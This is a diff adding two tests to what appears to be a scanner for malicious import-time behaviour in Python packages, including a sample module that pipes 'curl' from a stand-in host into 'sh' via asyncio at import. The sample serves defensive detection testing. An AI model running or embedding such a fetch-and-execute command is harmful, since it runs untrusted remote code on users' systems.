@@ -185,6 +185,22 @@ def test_network_library_imported_or_named_in_a_string_is_parsed(source: str) ->
     assert worth_parsing(source.encode())
 
 
+def test_network_library_names_inside_other_module_names_are_not_parsed() -> None:
+    source = b"from .rest._requests_asyncio import Transport\nfrom ._base_requests import Base\n"
+    assert not worth_parsing(source)
+    assert worth_parsing(b"from pip._vendor import requests\n")
+    assert worth_parsing(b"import requests_toolbelt, urllib3\n")
+
+
+def test_asyncio_subprocess_at_import_is_found() -> None:
+    source = (
+        "import asyncio\n\n"
+        "asyncio.run(asyncio.create_subprocess_shell('curl -s https://x.example.invalid/i | sh'))\n"
+    )
+    rules = {f.rule for f in _scan(source)}
+    assert {"import-process", "import-shell-download"} <= rules
+
+
 def test_network_library_names_only_in_prose_are_not_parsed() -> None:
     prose = (
         '"""A client.\n\nRetries failed requests with backoff over a websocket or\n'
